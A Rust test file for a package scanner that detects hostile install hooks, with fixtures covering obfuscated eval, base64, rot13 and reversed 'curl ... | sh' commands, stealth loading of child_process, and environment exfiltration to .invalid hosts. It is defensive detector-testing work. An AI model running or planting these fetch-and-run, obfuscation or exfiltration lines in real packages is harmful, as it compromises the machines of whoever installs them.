//! What is not followed is said, and when it would run.

use super::{Found, testing};
use crate::limit::evaluating;
use crate::unpack::{Content, Entry, Kind};
use customs_model::{Mark, SinkKind, SourceKind};

fn file(path: &str, text: &str) -> Entry {
    Entry {
        path: format!("package/{path}"),
        content: Content::Whole(text.as_bytes().into()),
        length: text.len() as u64,
        kind: Kind::Text,
        executable: false,
    }
}

/// A file that an installation runs by a program.
fn installed(program: &str, path: &str, text: &str) -> Found {
    let manifest = format!(r#"{{"name": "a", "scripts": {{"install": "{program} {path}"}}}}"#);
    let entries = vec![file("package.json", &manifest), file(path, text)];
    testing::found(entries)
}

/// Code in a text in a text, so many levels of texts.
fn nested(levels: u8) -> String {
    (0..levels).fold("a()".to_owned(), |inner, _| {
        let text = serde_json::to_string(&inner).unwrap_or_default();
        format!("eval({text})")
    })
}

#[test]
fn a_text_below_the_deepest_level_is_said_to_be_unread() {
    let read = installed("node", "a.js", &nested(evaluating::CHILDREN));
    assert!(!read.exhausted && !read.exhausted_hooks);
    let cut = installed("node", "a.js", &nested(evaluating::CHILDREN + 1));
    assert!(cut.exhausted && cut.exhausted_hooks);
    // What is imported holds no installation up.
    let code = nested(evaluating::CHILDREN + 1);
    let entries = vec![
        file("package.json", r#"{"name": "a", "main": "a.js"}"#),
        file("a.js", &code),
    ];
    let imported = testing::found(entries);
    assert!(imported.exhausted && !imported.exhausted_hooks);
}

#[test]
fn a_hidden_text_that_is_not_read_is_not_called_harmless() {
    let hidden = |times: usize| {
        let code = format!("eval(atob('YSgpOw==').repeat({times}))");
        installed("node", "a.js", &code)
    };
    let harmless = |found: &Found| {
        let mut flows = found.flows.iter();
        flows.any(|flow| flow.marks.contains(&Mark::NoEffect))
    };
    let read = hidden(2);
    assert!(harmless(&read) && !read.exhausted_hooks);
    let cut = hidden(evaluating::TEXT / 4 + 1);
    assert!(!harmless(&cut) && cut.exhausted_hooks);
}

#[test]
fn a_file_of_code_that_is_run_as_it_stands_is_told_to_be_in_plain_sight() {
    // Whether something is run as hidden or seen, and whether it is in plain sight.
    let ran = |decode: &str, held: &str| {
        let code = format!(
            "const fs = require('fs');\neval({decode}(fs.readFileSync(__dirname + '/b.js', 'utf8')));\n"
        );
        let found = with_module(&code, held);
        let has = |mark: Mark| found.flows.iter().any(|flow| flow.marks.contains(&mark));
        (has(Mark::HiddenEffect), has(Mark::InPlainSight))
    };
    let text = "require('child_process').execSync('make --version');\n";
    assert_eq!(ran("", text), (true, true));
    // One edge changed: the file holds the same text in another form.
    let hidden = "cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdtYWtlIC0tdmVyc2lvbicpOwo=";
    assert_eq!(ran("atob", hidden), (true, false));
}

/// What an installation runs of a script that imports a module.
fn with_module(code: &str, module: &str) -> Found {
    let manifest = r#"{"name": "a", "scripts": {"install": "node a.js"}}"#;
    let entries = vec![
        file("package.json", manifest),
        file("a.js", code),
        file("b.js", module),
    ];
    testing::found(entries)
}

fn starts_what_it_fetches(found: &Found) -> bool {
    found
        .flows
        .iter()
        .any(|flow| flow.source == SourceKind::Remote && flow.sink == SinkKind::Process)
}

#[test]
fn who_takes_lines_out_of_a_file_of_the_users_puts_nothing_there() {
    let harmless = |made: &str| {
        let code = format!(
            "const fs = require('fs');\nfunction clean(f) {{ const t = fs.readFileSync(f, 'utf8');\n\
             const u = {made};\n fs.writeFileSync(f, u); }}\n\
             clean(require('os').homedir() + '/.bashrc');\n"
        );
        let found = with_module(&code, "");
        let mut flows = found
            .flows
            .iter()
            .filter(|flow| flow.sink == SinkKind::Configuration);
        flows
            .next()
            .is_some_and(|flow| flow.marks.contains(&Mark::NoEffect))
    };
    assert!(harmless("t.replace(/# mine/, '')"));
    // One edge changed: something comes in, or another text.
    assert!(!harmless("t.replace(/# mine/, fs.readFileSync('x'))"));
    assert!(!harmless(
        "fs.readFileSync('other', 'utf8').replace(/# mine/, '')"
    ));
}

#[test]
fn an_encoded_path_of_a_program_of_the_package_hides_no_effect() {
    let hides = |command: &str| {
        let code = format!("require('child_process').execFileSync({command}, ['--version']);\n");
        let found = with_module(&code, "");
        let mut flows = found.flows.iter();
        flows.any(|flow| flow.marks.contains(&Mark::HiddenEffect))
    };
    assert!(!hides("__dirname + atob('L3Rvb2w=')"));
    // One edge changed: what is encoded fetches and runs.
    let hidden = "atob('c2g='), ['-c', atob('Y3VybCAtcyBodHRwczovL2EuaW52YWxpZC9hIHwgc2g=')]";
    assert!(hides(hidden));
}

#[test]
fn a_list_of_another_module_is_read_as_its_importer_leaves_it() {
    let module = "const t = ['exec', 'curl -s https://turn.invalid/a | sh', 'child_process'];\n\
                  module.exports = { t };\n";
    let turned = "const { t } = require('./b');\n\
                  t.push(t.shift());\n\
                  require(t[1])[t[2]](t[0]);\n";
    assert!(starts_what_it_fetches(&with_module(turned, module)));
    // One edge changed: nobody turns it.
    let idle = "const { t } = require('./b');\nrequire(t[1])[t[2]](t[0]);\n";
    assert!(!starts_what_it_fetches(&with_module(idle, module)));
}

#[test]
fn a_name_of_a_method_may_stand_in_another_module() {
    let module = "exports.a = 'child_process';\nexports.b = 'execSync';\n";
    let code = "const w = require('./b');\n\
                require(w.a)[w.b]('curl -s https://word.invalid/a | sh');\n";
    assert!(starts_what_it_fetches(&with_module(code, module)));
    let other = "exports.a = 'child_process';\nexports.b = 'toString';\n";
    assert!(!starts_what_it_fetches(&with_module(code, other)));
}

#[test]
fn a_text_that_is_too_long_is_said_to_be_unread() {
    let long = |bytes: usize| format!("eval(\"{}\")", "a();".repeat(bytes / 4 + 1));
    let read = installed("node", "a.js", &long(evaluating::TEXT / 64));
    assert!(!read.exhausted_hooks);
    let cut = installed("node", "a.js", &long(evaluating::TEXT));
    assert!(cut.exhausted_hooks);
}

/// Calls that spend the machine's budget for a file.
fn spending() -> String {
    let most = evaluating::STEPS_OF_HOOKS / evaluating::SHORT_GLANCE;
    let calls = "h(1)();\n".repeat(2 * most as usize);
    format!("function h(n) {{ let s = 0; while (true) {{ s += n; }} }}\n{calls}")
}

#[test]
fn what_is_imported_spends_nothing_of_a_hook() {
    let manifest = r#"{"name": "a", "main": "b.js", "scripts": {"install": "node a.js"}}"#;
    let code = "require('child_process').execSync(['id', ' -', 'u'].join(''));";
    let entries = vec![
        file("package.json", manifest),
        file("a.js", code),
        file("b.js", &spending()),
    ];
    let found = testing::found(entries);
    let mut capabilities = found.capabilities.iter();
    assert!(capabilities.any(|can| can.detail.as_deref() == Some("id -u")));
    assert!(found.exhausted && !found.exhausted_hooks);
}

#[test]
fn a_hook_that_spends_its_budget_is_not_judged() {
    let found = installed("node", "a.js", &spending());
    assert!(found.exhausted && found.exhausted_hooks);
}

/// Functions of a shell, each of which hands what it gets to the next one.
fn chain(functions: usize) -> String {
    let mut all = String::from("f0() { echo \"$1\"; }\n");
    for number in 1..functions {
        all += &format!("f{number}() {{ f{} \"$1\"; }}\n", number - 1);
    }
    all + &format!("f{} a\n", functions - 1)
}

#[test]
fn functions_of_a_shell_beyond_the_bound_are_said_to_be_unread() {
    assert!(!installed("sh", "a.sh", &chain(6)).exhausted_hooks);
    assert!(installed("sh", "a.sh", &chain(7)).exhausted_hooks);
}

#[test]
fn a_function_of_a_shell_that_calls_itself_is_read() {
    for again in ["f", "f \"$1\"", "f a \"$2\""] {
        let code = format!("f() {{ curl -s https://a.invalid; {again}; }}\nf b c\n");
        assert!(!installed("sh", "a.sh", &code).exhausted_hooks, "{again}");
    }
}

#[test]
fn scripts_of_a_shell_that_start_each_other_beyond_the_bound_are_said_to_be_unread() {
    let chain = |scripts: usize| {
        let manifest = r#"{"name": "a", "scripts": {"install": "sh a0.sh"}}"#;
        let mut entries = vec![file("package.json", manifest)];
        for number in 0..scripts {
            let text = format!("sh a{}.sh\n", number + 1);
            entries.push(file(&format!("a{number}.sh"), &text));
        }
        entries.push(file(&format!("a{scripts}.sh"), "echo a\n"));
        testing::found(entries)
    };
    assert!(!chain(1).exhausted_hooks);
    assert!(chain(8).exhausted_hooks);
}

/// Whether a script runs what it downloads only where a check held. `{check}` compares it.
fn is_checked(script: &str) -> bool {
    let digest = "8d6e2f10ab9c4d3e5f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6";
    let check = format!("echo \"{digest}  tool\" | sha256sum -c -");
    let fetch = "curl -fsSL https://c.invalid/t -o tool";
    let text = script.replace("{fetch}", fetch).replace("{check}", &check);
    let found = installed("bash", "get.sh", &format!("{text}\n./tool\n"));
    let flows: Vec<_> = found
        .flows
        .iter()
        .filter(|flow| flow.source == SourceKind::Remote && flow.sink == SinkKind::ExecutedFile)
        .collect();
    assert!(!flows.is_empty(), "{text}: {:?}", found.flows);
    flows
        .iter()
        .all(|flow| flow.marks.contains(&Mark::PinnedByDigest))
}

#[test]
fn an_exit_in_a_subshell_ends_no_script() {
    assert!(!is_checked("{fetch}\n{check} || (echo bad; exit 1)"));
    let in_a_pipe = "{fetch}\n{check} || { echo bad; exit 1; } | cat";
    assert!(!is_checked(in_a_pipe));
}

#[test]
fn a_subshell_that_fails_ends_a_script_that_ends_with_the_first_failure() {
    assert!(is_checked("set -e\n{fetch}\n{check} || (echo bad; exit 1)"));
    for passed_over in [
        "set -e\n{fetch}\n{check} || (echo bad; exit 0)",
        "set -e\n{fetch}\n{check} || (echo bad; exit)",
        "set -e\n{fetch}\n{check} || (echo bad; exit 1) || true",
        "(set -e)\n{fetch}\n{check} || (echo bad; exit 1)",
        "set -e\n{fetch}\n{ {check}; echo good; } || true",
    ] {
        assert!(!is_checked(passed_over), "{passed_over}");
    }
}

#[test]
fn an_exit_in_braces_ends_the_script() {
    assert!(is_checked("{fetch}\n{check} || { echo bad; exit 1; }"));
    assert!(is_checked("{fetch}\n{check} || exit 1"));
    assert!(!is_checked("{fetch}\n{check} || { echo bad; }"));
}

#[test]
fn what_a_subshell_checks_is_checked_behind_it_where_its_failure_ends_the_script() {
    assert!(!is_checked("{fetch}\n({check} || exit 1)"));
    assert!(!is_checked("{fetch}\nsh -c '{check} || exit 1'"));
    assert!(is_checked("{fetch}\n({check} || exit 1) || exit 1"));
    assert!(is_checked("set -e\n{fetch}\n({check} || exit 1)"));
}

/// What an installation runs that is hidden, by what hides it, and whether it fetches what it runs.
fn hidden_by(script: &str) -> (Vec<String>, bool) {
    let found = installed("sh", "a.sh", &format!("{script}\n"));
    let runs = |kind: SourceKind| {
        let mut flows: Vec<String> = found
            .flows
            .iter()
            .filter(|flow| flow.source == kind && flow.sink == SinkKind::Process)
            .map(|flow| flow.source_name.clone())
            .collect();
        flows.dedup();
        flows
    };
    let fetched = runs(SourceKind::Remote);
    (
        runs(SourceKind::Decoded),
        fetched.iter().any(|name| name.ends_with("c.invalid")),
    )
}

#[test]
fn a_text_that_a_filter_changed_and_nobody_can_compute_is_told_where_it_is_run() {
    for (script, filter) in [
        (
            "echo 'qvey uggcf://p.vainyvq' | sed 's/[a-z]/x/g' | sh",
            "sed",
        ),
        ("echo 'a b c d e f g h' | awk '{print $2}' | bash", "awk"),
        ("printf '%s' 'what is it then' | ./turn | sh", "turn"),
        (
            "echo 'what is it then' | sed 's/./x/' | tee log | sh",
            "sed",
        ),
        ("sed -n 's/x/y/p' <<EOF | sh\nwhat is it then\nEOF", "sed"),
        (
            "sh -c \"$(echo 'what is it then' | awk '{print $1}')\"",
            "awk",
        ),
        ("eval \"$(echo 'what is it then' | grep -o 'i.*')\"", "grep"),
        ("bash <(echo 'what is it then' | sort)", "sort"),
        ("sh <<< \"$(echo 'what is it then' | sort)\"", "sort"),
        ("(echo 'what is it'; echo 'then') | sort | python3", "sort"),
        ("awk '{print $1}' <<< 'what is it then' | node", "awk"),
    ] {
        assert_eq!(hidden_by(script).0, [filter], "{script}");
    }
}

#[test]
fn a_text_that_a_filter_changed_is_read_where_it_can_be_computed() {
    for script in [
        "echo 'cuXrl https://c.invalid/a @ sh' | sed 's/X//; s/@/|/' | sh",
        "echo 'phey uggcf://p.vainyvq/n | fu' | tr a-z n-za-m | sh",
        "echo 'hs | a/dilavni.c//:sptth lruc' | rev | sh",
        "echo '##curl https://c.invalid/a | sh' | cut -c3- | sh",
        "printf '\\143url %s | sh' https://c.invalid/a | sh",
        "sed 's/@/|/' <<EOF | sh\ncurl https://c.invalid/a @ sh\nEOF",
        "sh <<< 'curl https://c.invalid/a | sh'",
        "{ echo 'curl https://c.invalid/a @ sh'; echo ls; } | sed 's/@/|/' | sh",
    ] {
        assert!(hidden_by(script).1, "{script}");
    }
}

#[test]
fn a_text_that_is_changed_and_not_run_is_told_nowhere() {
    for script in [
        "V=$(echo 'release 1.2.3 of it' | awk '{print $2}'); echo \"$V\" > log",
        "echo 'what is it then' | sort > log; sh other.sh",
        "echo 'what is it then' | sed 's/what/ls/' | sh",
        "echo 'y' | ./ask | sh",
        "ls | sort | sh",
    ] {
        let (hidden, fetched) = hidden_by(script);
        assert!(hidden.is_empty() && !fetched, "{script}: {hidden:?}");
    }
}

#[test]
fn on_a_host_that_many_share_only_the_owner_of_the_repository_is_own() {
    let marks = |address: &str| {
        let manifest = format!(
            r#"{{"name": "a", "repository": "lk/tool", "scripts": {{"install": "curl -s {address} | sh"}}}}"#
        );
        let found = testing::found(vec![file("package.json", &manifest)]);
        let mut flows = found.flows.into_iter();
        let flow = flows.find(|flow| flow.source == SourceKind::Remote);
        flow.map(|flow| (flow.source_name, flow.marks.contains(&Mark::OwnHost)))
    };
    for (address, name, own) in [
        (
            "https://raw.githubusercontent.com/lk/tool/main/a.sh",
            "raw.githubusercontent.com/lk",
            true,
        ),
        ("https://lk.github.io/a.sh", "lk.github.io", true),
        (
            "https://raw.githubusercontent.com/other/tool/main/a.sh",
            "raw.githubusercontent.com/other",
            false,
        ),
        (
            "https://github.com/lk/../other/tool/raw/main/a.sh",
            "github.com",
            false,
        ),
        (
            "https://objects.githubusercontent.com/release/1/a",
            "objects.githubusercontent.com",
            false,
        ),
    ] {
        let expected = (format!("the answer of {name}"), own);
        assert_eq!(marks(address), Some(expected), "{address}");
    }
}

#[test]
fn of_an_address_that_the_user_may_set_the_one_that_stands_there_is_told() {
    let build = |get: &str, url: &str| {
        format!(
            r#"use std::{{env, process::Command}};
            fn main() {{
                let out = env::var("OUT_DIR").unwrap();
                let url = {url};
                {get}
                println!("cargo:rustc-link-lib=static=a");
            }}"#
        )
    };
    let by_command =
        r#"Command::new("curl").arg("-o").arg(format!("{out}/liba.a")).arg(url).status();"#;
    let by_client = r#"let bytes = reqwest::blocking::get(url).unwrap().bytes().unwrap();
        std::fs::write(format!("{out}/liba.a"), &bytes).unwrap();"#;
    let linked = |get: &str, url: &str| {
        let manifest = "[package]\nname = \"a\"\nversion = \"1.0.0\"\nrepository = \"https://github.com/lk/a\"\n";
        let found = testing::found(vec![
            file("Cargo.toml", manifest),
            file("build.rs", &build(get, url)),
        ]);
        let mut flows = found.flows.into_iter();
        let flow = flows.find(|flow| flow.sink == SinkKind::ExecutedFile);
        flow.map(|flow| (flow.source_name, flow.marks.contains(&Mark::OwnHost)))
    };
    let mirror = r#"format!("{}/a", env::var("MIRROR").unwrap_or("https://PLACE".to_string()))"#;
    let closure =
        r#"format!("{}/a", env::var("MIRROR").unwrap_or_else(|_| "https://PLACE".into()))"#;
    for url in [mirror, closure] {
        for (place, owner, own) in [
            ("github.com/lk/a/releases", "github.com/lk", true),
            ("github.com/other/a/releases", "github.com/other", false),
            ("lib.invalid", "lib.invalid", false),
        ] {
            let url = url.replace("PLACE", place);
            let expected = (format!("the answer of {owner}"), own);
            for get in [by_command, by_client] {
                let found = linked(get, &url);
                assert_eq!(found.as_ref(), Some(&expected), "{get} {url}");
            }
        }
    }
    // What only the user knows is nobody's.
    let expected = ("the answer of <?>".to_owned(), false);
    let unknown = r#"format!("{}/a", env::var("MIRROR").unwrap())"#;
    assert_eq!(linked(by_command, unknown), Some(expected));
}

#[test]
fn a_timer_that_calls_a_function_runs_no_text() {
    let able = |code: &str| {
        let found = installed("node", "a.js", code);
        let mut all = found.capabilities.iter();
        all.any(|can| can.name == "code.dynamic")
    };
    assert!(!able("setTimeout(() => a(), 100);"));
    assert!(!able("new Promise((resolve) => setTimeout(resolve, 100));"));
    assert!(able("setTimeout('a()', 100);"));
    assert!(able("setInterval('a(' + process.argv[2] + ')', 100);"));
    assert!(able("eval(process.argv[2]);"));
}

#[test]
fn a_path_that_is_looked_up_is_loaded_where_it_is_required() {
    let loads = |then: &str| {
        let code = format!("fetch('https://a.invalid').then(b => b.text()).then(c => {then});");
        let found = installed("node", "a.js", &code);
        let mut flows = found.flows.iter();
        flows.any(|flow| flow.source == SourceKind::Remote && flow.sink == SinkKind::Module)
    };
    assert!(loads("require(c)"));
    assert!(loads("require(require.resolve(c))"));
    assert!(!loads("console.log(require.resolve(c))"));
}

#[test]
fn a_name_of_which_only_the_beginning_is_sent_is_told_as_such() {
    let told = |taken: &str| {
        let code = format!("fetch('https://a.invalid/' + require('os').hostname(){taken});");
        let found = installed("node", "a.js", &code);
        let mut flows = found.flows.into_iter();
        let flow = flows.find(|flow| flow.source == SourceKind::Identity);
        flow.map(|flow| flow.source_name).unwrap_or_default()
    };
    let whole = told("");
    assert!(!whole.is_empty());
    let beginning = format!("the first 8 letters of {whole}");
    assert_eq!(told(".substring(0, 8)"), beginning);
    assert_eq!(told(".slice(0, 64)"), whole);
    assert_eq!(told(".slice(8, 16)"), whole);
}

#[test]
fn a_folder_that_is_made_for_the_call_is_nobodys_settings() {
    let plants = |folder: &str, file: &str| {
        let code = format!(
            "const fs = require('fs'), os = require('os'), path = require('path');\n\
             const dir = {folder};\nfs.writeFileSync(path.join(dir, '{file}'), process.argv[2]);"
        );
        let flows = testing::found(testing::script(&code)).flows;
        flows
            .iter()
            .any(|flow| flow.sink == SinkKind::Configuration)
    };
    let fresh = "fs.mkdtempSync(path.join(os.tmpdir(), 'a-'))";
    assert!(!plants(fresh, ".npmrc"));
    assert!(plants("os.homedir()", ".npmrc"));
    assert!(plants(fresh, "../../home/me/.npmrc"));
}

#[test]
fn what_a_bound_call_calls_is_what_it_is_bound_to() {
    let runs = |bound: &str, called: &str| {
        let code = format!(
            "const f = {bound}; require('https').get('https://a.invalid/b', (r) => {{
                let d = ''; r.on('data', (c) => d += c); r.on('end', () => {called}) }})"
        );
        testing::remote_code(testing::script(&code)).is_some()
    };
    assert!(runs("Function.call.bind(eval)", "f(null, d)"));
    assert!(runs(
        "Function.prototype.call.bind(Function)",
        "f(null, d)()"
    ));
    assert!(!runs(
        "Function.call.bind(Function.prototype[Symbol.hasInstance])",
        "f(Object, d)"
    ));
    assert!(!runs("Function.call.bind(String.prototype.trim)", "f(d)"));
}

#[test]
fn files_whose_names_are_objects_are_not_one_file() {
    let runs = |written: &str, run: &str| {
        let code = format!(
            "const fs = require('fs'); require('https').get('https://a.invalid/b', (r) => {{
                let d = ''; r.on('data', (c) => d += c);
                r.on('end', () => {{ fs.writeFileSync({written}, d); eval(String(fs.readFileSync({run}))) }}) }})"
        );
        testing::remote_code(testing::script(&code)).is_some()
    };
    assert!(runs("'b.js'", "'b.js'"));
    assert!(!runs("String({ a: 1 })", "String({ b: 2 })"));
}

#[test]
fn a_file_that_a_helper_opens_and_compiles_is_read_as_the_code_that_it_is() {
    let flows = |version: &str| {
        let setup = "import os\n\
            def read(name):\n    file = open(name, 'rt')\n    try:\n        text = file.read()\n    \
            finally:\n        file.close()\n    \
            return compile(text.replace('\\r', ''), name, 'exec')\n\
            exec(read(os.path.join('a', 'version.py')))\n";
        let entries = vec![
            crate::unpack::text_file("a-1.0/PKG-INFO", "Name: a\nVersion: 1.0\n"),
            crate::unpack::text_file("a-1.0/setup.py", setup),
            crate::unpack::text_file("a-1.0/a/__init__.py", ""),
            crate::unpack::text_file("a-1.0/a/version.py", version),
        ];
        testing::found(entries).flows
    };
    assert!(flows("__version__ = '1'\n").is_empty());
    let sends = "import os, urllib.request\n\
        urllib.request.urlopen('https://a.invalid', data=str(dict(os.environ)).encode())\n";
    let found = flows(sends);
    assert!(
        found
            .iter()
            .any(|flow| flow.source == SourceKind::Environment
                && flow.zone == customs_model::Zone::Install)
    );
}

#[test]
fn a_file_that_nobody_may_run_is_not_made_executable() {
    let runs = |mode: &str| {
        let code = format!(
            "const fs = require('fs'); require('https').get('https://a.invalid/b', (r) => {{
                let d = ''; r.on('data', (c) => d += c);
                r.on('end', () => {{ fs.writeFileSync('/tmp/b', d); fs.chmodSync('/tmp/b', {mode}) }}) }})"
        );
        let flows = testing::found(testing::script(&code)).flows;
        flows.iter().any(|flow| flow.sink == SinkKind::ExecutedFile)
    };
    for mode in ["0o755", "'755'", "0o100", "mode()"] {
        assert!(runs(mode), "{mode}");
    }
    for mode in ["0o600", "384", "'0600'"] {
        assert!(!runs(mode), "{mode}");
    }
}
